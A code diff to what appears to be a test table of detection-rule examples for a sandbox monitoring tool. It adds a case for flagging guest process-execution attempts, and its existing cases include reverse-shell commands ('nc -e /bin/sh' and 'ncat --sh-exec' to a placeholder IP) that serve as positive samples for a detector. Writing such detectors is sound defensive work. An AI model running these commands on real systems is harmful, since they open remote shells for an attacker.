@@ -9,7 +9,7 @@ from __future__ import annotations
 
 from collections.abc import Callable
 
-from corral.events import Event
+from corral.events import Event, ExecAction
 
 from .helpers import Feed
 
@@ -175,6 +175,17 @@ EXAMPLES: dict[str, tuple[list[Example], list[Example]]] = {
     "tunnel-netcat-exec": (
         ["nc -e /bin/sh 203.0.113.7 4444", "ncat --sh-exec 'bash -i' 203.0.113.7 443"],
         ["nc -zv localhost 5432", "nc -lvp 4444"],
+    ),
+    "exec-guest-process-attempt": (
+        [
+            lambda f: [
+                f.event(
+                    action=ExecAction(argv=["curl", "http://x"]),
+                    data={"source": "python-guest", "reported": True, "attempt": True},
+                )
+            ],
+        ],
+        [lambda f: [f.exec("curl", "http://x")]],
     ),
     "tunnel-reverse-shell-devtcp": (
         [
